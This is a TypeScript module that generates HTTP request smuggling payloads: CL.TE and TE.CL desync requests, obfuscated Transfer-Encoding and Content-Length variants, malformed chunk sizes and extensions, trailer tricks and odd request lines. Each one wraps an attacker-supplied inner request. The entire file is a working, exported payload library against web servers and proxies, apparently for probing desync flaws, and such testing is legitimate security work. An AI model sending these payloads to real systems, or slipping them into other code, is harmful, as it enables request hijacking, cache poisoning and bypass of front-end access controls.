/**
 * Requests that two servers may parse differently (request smuggling; RFC 9112, section 11.2). Each carries an inner request
 * in its content: a server that takes the inner one for a request of its own is desynchronised from the one before it.
 */
export interface Attack {
  /** What the outer request asks for. */
  target: string;
  host: string;
  /** Names the outer request (`X-Caller`). */
  caller: string;
  inner: string;
}

/** The raw bytes of a payload, one character a byte. */
export type Payload = (attack: Attack) => string;

interface Head {
  method?: string;
  target?: string;
  version?: string;
  lineEnd?: string;
}

const CHUNKED = 'Transfer-Encoding: chunked';
const LAST_CHUNK = '0\r\n\r\n';
const lengthOf = (content: string) => `Content-Length: ${content.length}`;
const chunk = (content: string, { extension = '', lineEnd = '\r\n' } = {}) =>
  `${content.length.toString(16)}${extension}${lineEnd}${content}${lineEnd}`;

function head(attack: Attack, headers: readonly string[], options: Head = {}): string {
  const { method = 'POST', target = attack.target, version = 'HTTP/1.1', lineEnd = '\r\n' } = options;
  const first = [`${method} ${target} ${version}`, `Host: ${attack.host}`, `X-Caller: ${attack.caller}`];
  return [...first, ...headers, '', ''].join(lineEnd);
}

const chunked = (attack: Attack, headers: readonly string[] = [], options: Head = {}) =>
  head(attack, [...headers, CHUNKED], options) + chunk(attack.inner) + LAST_CHUNK;

/** The length covers everything; a reader of chunks finds the inner request after them. */
const clTe = (attack: Attack, encoding: string) => {
  const content = LAST_CHUNK + attack.inner;
  return head(attack, [lengthOf(content), encoding]) + content;
};

/** The chunks cover everything; a reader of the length finds the inner request after the first line. */
const teCl = (attack: Attack, encoding: string) => {
  const content = chunk(attack.inner);
  const length = `Content-Length: ${content.indexOf('\n') + 1}`;
  return head(attack, [length, encoding]) + content + LAST_CHUNK;
};

/** Spellings that some readers take for `chunked`. */
const ENCODINGS = [
  ...[CHUNKED, 'Transfer-Encoding: CHUNKED', 'Transfer-Encoding: xchunked', 'Transfer-Encoding: "chunked"'],
  ...[
    'Transfer-Encoding: chunked;q=1',
    'Transfer-Encoding: identity, chunked',
    'Transfer-Encoding: ,chunked',
  ],
  ...[
    'Transfer-Encoding: chunked, identity',
    'Transfer-Encoding: gzip, chunked',
    'Transfer-Encoding:chunked',
  ],
  ...['Transfer-Encoding: chunked, chunked', 'Transfer-Encoding: chunked\r\nTransfer-Encoding: identity'],
  ...[
    'Transfer-Encoding: x\r\nTransfer-Encoding: chunked',
    'Transfer-Encoding : chunked',
    'Transfer-Encoding:',
  ],
  ...['Transfer-Encoding\t: chunked', 'Transfer-Encoding:\tchunked', 'Transfer-Encoding: \x0bchunked'],
  ...['Transfer-Encoding: chunked\0', 'Transfer-Encoding: chun\xffked', 'Transfer-Encoding: \rchunked'],
  ...[
    'Transfer-Encoding:\r\n chunked',
    'X-Other: a\r\n Transfer-Encoding: chunked',
    ' Transfer-Encoding: chunked',
  ],
  ...['X-Other: a\nTransfer-Encoding: chunked', 'X-Other: a\rTransfer-Encoding: chunked'],
  'Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked',
];

/** Lengths that two readers may take for different ones; `n` is the inner request's. */
const LENGTHS: ((n: number) => string)[] = [
  (n) => `Content-Length: 0\r\nContent-Length: ${n}`,
  (n) => `Content-Length: ${n}\r\nContent-Length: 0`,
  (n) => `Content-Length: 0, ${n}`,
  (n) => `Content-Length: +${n}`,
  (n) => `Content-Length: -${n}`,
  (n) => `Content-Length: 0x${n.toString(16)}`,
  (n) => `Content-Length: ${n}.0`,
  (n) => `Content-Length: ${2n ** 64n + BigInt(n)}`,
  (n) => `Content-Length: 0 ${n}`,
  (n) => `Content-Length : ${n}`,
  (n) => `Content-Length:\r\n ${n}`,
  (n) => `X-Other: a\r\n Content-Length: ${n}`,
  (n) => `X-Other: a\nContent-Length: ${n}`,
  (n) => `X-Other: a\rContent-Length: ${n}`,
];

/** Contents of a chunked request, made around the inner one. */
const CONTENTS: Record<string, (inner: string) => string> = {
  'an extension': (inner) => chunk(inner, { extension: ';a="b;c"' }) + LAST_CHUNK,
  'a line end in a quoted extension': (inner) => chunk(inner, { extension: ';a="\r\n"' }) + LAST_CHUNK,
  'an extension that ends in a bare LF': (inner) => `2;a\nxx\r\n${chunk(inner)}${LAST_CHUNK}`,
  'sizes that end in a bare LF': (inner) => `${chunk(inner, { lineEnd: '\n' })}0\n\n`,
  'a size with a space after': (inner) => chunk(inner, { extension: ' ' }) + LAST_CHUNK,
  'a size with 0x before': (inner) => `0x${chunk(inner)}${LAST_CHUNK}`,
  'a negative size': (inner) => `-${chunk(inner)}${LAST_CHUNK}`,
  'a size of more than 64 bits': (inner) => `f0000000000000000${chunk(inner)}${LAST_CHUNK}`,
  'an empty size': (inner) => `\r\n${inner}\r\n${LAST_CHUNK}`,
  'more than its size says': (inner) => `1\r\nxyz\r\n${chunk(inner)}${LAST_CHUNK}`,
  'the inner request as a trailer': (inner) => `0\r\nX-Trailer: a\r\n${inner}`,
  'a length in the trailer': (inner) => `${chunk(inner)}0\r\nContent-Length: 3\r\n\r\n`,
  'a body that never ends': (inner) => chunk(inner),
};

const FIRST_LINES: Record<string, (attack: Attack) => Head> = {
  'another host’s absolute URI': ({ target }) => ({ target: `http://elsewhere.test${target}` }),
  'no slash': ({ target }) => ({ target: target.slice(1) }),
  'an asterisk': () => ({ method: 'OPTIONS', target: '*' }),
  CONNECT: ({ host }) => ({ method: 'CONNECT', target: host }),
  'an unknown method': () => ({ method: 'BREW' }),
  'two spaces': ({ target }) => ({ target: ` ${target}` }),
  'two versions': ({ target }) => ({ target: `${target} HTTP/1.1` }),
  'HTTP/1.0': () => ({ version: 'HTTP/1.0' }),
  'HTTP/2.0': () => ({ version: 'HTTP/2.0' }),
  'lines that end in a bare LF': () => ({ lineEnd: '\n' }),
  'lines that end in a bare CR': () => ({ lineEnd: '\r' }),
};

const HEADERS = [
  ...['Expect: 100-continue', 'Connection: close, Transfer-Encoding', 'Connection: Content-Length'],
  ...['Connection: keep-alive', 'Trailer: Content-Length, Transfer-Encoding', 'Host: elsewhere.test'],
  'Connection: upgrade\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA',
];

const named = <T>(entries: Record<string, T>, payload: (entry: T) => Payload) =>
  Object.entries(entries).map(([name, entry]): [string, Payload] => [name, payload(entry)]);
const listed = <T>(entries: readonly T[], name: (entry: T) => string, payload: (entry: T) => Payload) =>
  entries.map((entry): [string, Payload] => [name(entry), payload(entry)]);
const METHODS = ['GET', 'HEAD', 'DELETE', 'OPTIONS', 'POST'];

export const PAYLOADS: readonly (readonly [name: string, payload: Payload])[] = [
  ...listed(
    METHODS,
    (it) => `chunked ${it}`,
    (method) => (attack) => chunked(attack, [], { method }),
  ),
  ...listed(
    METHODS,
    (it) => `${it} with a length`,
    (method) => (attack) => head(attack, [lengthOf(attack.inner)], { method }) + attack.inner,
  ),
  ...listed(
    ENCODINGS,
    (it) => `CL.TE, ${it}`,
    (encoding) => (attack) => clTe(attack, encoding),
  ),
  ...listed(
    ENCODINGS,
    (it) => `TE.CL, ${it}`,
    (encoding) => (attack) => teCl(attack, encoding),
  ),
  ...listed(
    LENGTHS,
    (it) => `length, ${it(9)}`,
    (length) => (attack) => head(attack, [length(attack.inner.length)], { method: 'GET' }) + attack.inner,
  ),
  ...named(CONTENTS, (content) => (attack) => head(attack, [CHUNKED]) + content(attack.inner)),
  ...named(FIRST_LINES, (first) => (attack) => chunked(attack, [], { method: 'GET', ...first(attack) })),
  ...listed(
    HEADERS,
    (it) => `chunked GET, ${it}`,
    (header) => (attack) => chunked(attack, [header], { method: 'GET' }),
  ),
];
